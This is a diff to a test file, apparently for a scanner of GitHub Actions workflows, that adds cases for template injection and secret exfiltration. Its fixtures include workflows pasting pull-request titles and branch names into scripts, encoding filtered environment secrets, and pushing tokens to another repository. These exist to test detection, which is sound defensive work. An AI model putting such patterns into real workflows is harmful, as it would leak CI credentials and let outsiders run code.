@@ -93,6 +93,23 @@ ${job(`      - run: echo "$TITLE" | grep -q '^feat'
     expect(only(workflow, 'gha-template-injection')).toEqual([]);
   });
 
+  it('reports ${{ env.NAME }} expanded into a script when an env: of the workflow, job or step binds NAME to outsider text', () => {
+    // workflow_run's head branch bound in the job's env:, then pasted back with ${{ env.BRANCH }}.
+    const jobEnv = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\n${job('      - run: echo "Report for ${{ env.BRANCH }}" > report.txt\n', '    env:\n      BRANCH: ${{ github.event.workflow_run.head_branch }}\n')}`;
+    expect(only(jobEnv, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 11]]);
+    // The step's own env:, on pull_request: high, as the context itself would be.
+    const stepEnv = `on: pull_request\n${job('      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: test "${{ env.TITLE }}" != wip\n')}`;
+    expect(only(stepEnv, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 8]]);
+    // The workflow's env:, into github-script.
+    const script = `on: pull_request_target\nenv:\n  HEAD: \${{ github.head_ref }}\n${job(`      - uses: actions/github-script@${SHA}\n        with:\n          script: core.info('\${{ env.HEAD }}')\n`)}`;
+    expect(only(script, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 10]]);
+  });
+
+  it('is quiet on ${{ env.NAME }} bound to a SHA, a number, a literal, a maintainer input, and on the same env: read as "$NAME"', () => {
+    const workflow = `on:\n  pull_request_target:\n  workflow_dispatch:\n    inputs:\n      version: {type: string}\nenv:\n  SHA: \${{ github.event.pull_request.head.sha }}\n  NUM: \${{ github.event.number }}\n  NODE: 20\n  VERSION: \${{ inputs.version }}\n${job(`      - run: echo "\${{ env.SHA }} \${{ env.NUM }} \${{ env.NODE }} \${{ env.VERSION }} \${{ env.MISSING }}"\n      - run: echo "$TITLE"\n        env:\n          TITLE: \${{ github.event.pull_request.title }}\n`)}`;
+    expect(only(workflow, 'gha-template-injection')).toEqual([]);
+  });
+
   it('reports outsider text passed through env: and then run as code (eval, sh -c, a variable cut from it, github-script eval)', () => {
     const workflow = `on:
   issue_comment:
@@ -949,8 +966,10 @@ describe('gha-secrets-exfiltration', () => {
       - run: sudo cat /proc/1234/mem | strings | grep ghs_
       - run: env | base64 -w0 | base64 -w0
       - run: printenv | xxd -p
+      - run: env | grep -iE 'token|secret' | base64 -w0 | base64 -w0
 `)}`;
-    expect(only(dumped, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:9', 'critical:10', 'critical:11', 'critical:12', 'critical:13']);
+    // Filtered on the way (the last stage encodes): the secrets grep picks are still printed encoded.
+    expect(only(dumped, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:9', 'critical:10', 'critical:11', 'critical:12', 'critical:13', 'critical:14']);
   });
 
   it('is quiet on a crash dump of a test process, memory statistics, a process listing, and an environment printed plainly or filtered', () => {
@@ -962,6 +981,8 @@ describe('gha-secrets-exfiltration', () => {
       - run: printenv | sort
       - run: env | grep -i node
       - run: echo "$GREETING" | base64
+      - run: env | base64 -w0 | wc -c
+      - run: printenv | grep -c CI_ | sort
 `)}`;
     expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
   });
@@ -1170,6 +1191,43 @@ describe('gha-secrets-exfiltration', () => {
     ]);
     const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
     expect(dropOwnHostSends(findings, 'acme', 'tint').filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => f.line)).toEqual([7, 9, 10, 16]);
+  });
+
+  it('reports secrets written to a file that the job names in git add and then pushes (a clone of another repository, another branch), critical', () => {
+    const pushed = `on: push\n${job(`      - run: |
+          git clone https://x:\${{ secrets.MIRROR_PAT }}@github.com/ci-mirror-bot/cache.git c
+          echo "\${{ secrets.NPM_TOKEN }}" > c/key.txt
+          cd c && git add key.txt && git commit -m sync && git push
+`)}`;
+    expect(only(pushed, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 8]]);
+    // Written in one step through env:, added and pushed in another.
+    const steps = `on: push\n${job(`      - run: printf '%s' "$T" | base64 > stats/cache.b64
+        env:
+          T: \${{ secrets.PYPI_API_TOKEN }}
+      - run: |
+          git add stats/cache.b64
+          git commit -m 'update stats' && git push origin HEAD:stats
+`)}`;
+    expect(only(steps, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+  });
+
+  it('is quiet on a secret written outside what git add names (~/.npmrc, a deploy key, .env) while other files are pushed, and on git add without a push', () => {
+    const normal = `on: push\n${job(`      - run: echo "//registry.npmjs.org/:_authToken=\${{ secrets.NPM_TOKEN }}" > ~/.npmrc
+      - run: |
+          echo "\${{ secrets.DEPLOY_KEY }}" > deploy_key && chmod 600 deploy_key
+          echo "API_KEY=\${{ secrets.API_KEY }}" > .env
+          npm version patch --no-git-tag-version && npm run build
+          git add package.json CHANGELOG.md dist/ .
+          git commit -m release
+          GIT_SSH_COMMAND='ssh -i deploy_key' git push
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+    const unpushed = `on: push\n${job(`      - run: |
+          echo "\${{ secrets.NPM_TOKEN }}" > token.txt
+          git add token.txt && git diff --cached --stat
+          git push --dry-run
+`)}`;
+    expect(only(unpushed, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
   it('is quiet on gh writing ordinary data, with its token as credential, to this repository, a gist of build output, or an Enterprise host', () => {
